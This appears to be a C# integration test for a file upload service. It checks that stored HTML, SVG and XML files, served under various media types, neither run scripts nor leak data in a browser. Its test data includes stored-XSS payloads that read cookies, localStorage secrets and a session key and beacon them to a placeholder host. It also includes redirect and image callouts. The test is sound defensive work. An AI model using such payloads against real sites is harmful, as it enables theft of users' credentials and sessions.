using System.Text;
using System.Text.Json;
using Azure.Storage.Blobs.Models;
using Sluice.IntegrationTests.UploadPage;

namespace Sluice.IntegrationTests.Reads;

/// <summary>
/// Stored scripts in a browser: in the tab of somebody who used the upload page with a key, and in a frame of a page of the same origin.
/// <see cref="SiteScriptTests"/> shows that they run where that is allowed, so that nothing passes here for want of a try.
/// </summary>
public sealed class StoredScriptTests(ScriptServer server) : IClassFixture<ScriptServer>
{
    private static readonly string[] _ways = ["put", "form", "hook", "tus", "ietf", "ingest"];

    // Tries for all that a script of the origin can get.
    private const string Theft =
        "document.title='ran';try{parent.document.title='ran'}catch{}" +
        "new Image().src='http://canary.invalid/script?'+encodeURIComponent([location.search,"
            + "localStorage.secret,sessionStorage['sluice-key'],document.cookie]);";

    // What needs no script: it would tell the address to another site.
    private const string Beacons =
        "<img src='http://canary.invalid/img' onerror=\"document.title='ran'\"/>" +
        "<link rel='stylesheet' href='http://canary.invalid/css'/><iframe src='http://canary.invalid/frame'></iframe>";

    internal static IReadOnlyDictionary<string, (string? MediaType, string Body)> Documents { get; } =
        new Dictionary<string, (string?, string)>
        {
            ["html"] = ("text/html", $"<!doctype html><html><body>{Beacons}<script>{Theft}</script></body></html>"),
            ["html-charset"] = ("Text/HTML;charset=utf-8", $"<!doctype html>{Beacons}<script>{Theft}</script>"),
            ["refresh"] = ("text/html", "<meta http-equiv='refresh' content='0;url=http://canary.invalid/refresh'>"),
            ["svg"] = (
                "image/svg+xml", $"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='ran'\"><script>{Theft}</script></svg>"),
            ["xml"] = (
                "text/xml", $"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><head/>"
                    + $"<body>{Beacons}<script>{Theft}</script></body></html>"),
            ["application-xml"] = (
                "application/xml",
                $"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><head/><script>{Theft}</script></html>"),
            ["xhtml"] = ("application/xhtml+xml", $"<html xmlns='http://www.w3.org/1999/xhtml'><head/><script>{Theft}</script></html>"),
            ["other-xml"] = ("image/picture+xml", $"<html xmlns='http://www.w3.org/1999/xhtml'><head/><script>{Theft}</script></html>"),
            ["untyped"] = (null, $"<!doctype html><html><body>{Beacons}<script>{Theft}</script></body></html>"),
            ["octets"] = ("application/octet-stream", $"<html><body>{Beacons}<script>{Theft}</script></body></html>"),
            ["plain"] = ("text/plain", $"<!doctype html><html><body>{Beacons}<script>{Theft}</script></body></html>"),
            ["pretended-image"] = ("image/png", $"<!doctype html><html><body>{Beacons}<script>{Theft}</script></body></html>"),
            ["pretended-video"] = ("video/mp4", $"<!doctype html><html><body>{Beacons}<script>{Theft}</script></body></html>"),
        };

    [Fact]
    public async Task Nothing_runs_and_nothing_leaks_whatever_it_is_and_however_it_was_stored()
    {
        var paths = new Dictionary<string, string>();
        foreach (var way in _ways)
        {
            // One way in has to show them all; the others those that the issue of it is about.
            foreach (var (name, (mediaType, body)) in Documents.Where(
                document => way == "put" || document.Key is "html" or "svg" or "xml" or "untyped"))
                paths[$"{way} {name}"] = await server.StoreAsync(
                    way, $"{Guid.NewGuid():N}", mediaType, Encoding.UTF8.GetBytes($"{body}<!-- {way} {name} -->"));
        }

        foreach (var mediaType in (string[])["image/png, text/html", "text/html, image/png", "", "foo"])
        {
            var theirs = $"theirs-{Guid.NewGuid():N}";
            var headers = new BlobHttpHeaders { ContentType = mediaType, ContentDisposition = "inline" };
            await server.Container.GetBlobClient(theirs).UploadAsync(
                new BinaryData(Documents["html"].Body), new BlobUploadOptions { HttpHeaders = headers },
                TestContext.Current.CancellationToken);
            paths[$"theirs {mediaType}"] = server.PathOf(theirs);
        }

        var said = await Browser.ReadAsync("attack", server.Address(), new { Code = ScriptServer.Key, Paths = paths });

        foreach (var result in said.EnumerateObject())
        {
            Assert.True(
                Text(result, "title") != "ran" && Text(result, "host") == "host" && Leaks(result).Length == 0,
                $"{result.Name}: {result.Value.GetRawText()}");
        }

        Assert.Equal(paths.Count, said.EnumerateObject().Count());
    }

    [Fact]
    public async Task What_people_look_at_is_shown()
    {
        var said = await Browser.ReadAsync(
            "show", server.Address(), new { Code = ScriptServer.Key, Folder = $"/api/blobs/{server.Container.Name}/shown" });

        var shown = said.GetProperty("results");
        foreach (var image in (string[])["a.png", "a.jpeg", "a.webp"])
            Assert.Equal(64, shown.GetProperty(image).GetProperty("image").GetInt32());
        foreach (var video in (string[])["a.webm", "a.mp4"])
            Assert.True(
                shown.GetProperty(video).GetProperty("video").GetInt32() == 64, $"{video}: {shown.GetProperty(video).GetRawText()}");
        Assert.Equal(1, shown.GetProperty("a.wav").GetProperty("media").GetDouble());
        Assert.Equal("plain", shown.GetProperty("a.txt").GetProperty("text").GetString());
        Assert.Contains("\"a\"", shown.GetProperty("a.json").GetProperty("text").GetString(), StringComparison.Ordinal);
        Assert.True(shown.GetProperty("a.svg").GetProperty("downloaded").GetBoolean());
        Assert.Equal([64, 64], said.GetProperty("embedded").EnumerateArray().Select(static width => width.GetInt32()));
        // The browser of the package has no viewer for it, and saves it: SLUICE_CHROMIUM names one that has.
        if (said.GetProperty("viewer").GetBoolean())
            Assert.True(shown.GetProperty("a.pdf").GetProperty("red").GetInt32() > 1000, shown.GetProperty("a.pdf").GetRawText());
    }

    internal static string Text(JsonProperty result, string name) => result.Value.GetProperty(name).GetString()!;

    internal static string[] Leaks(JsonProperty result) =>
        [.. result.Value.GetProperty("leaks").EnumerateArray().Select(static leak => leak.GetString()!)];
}
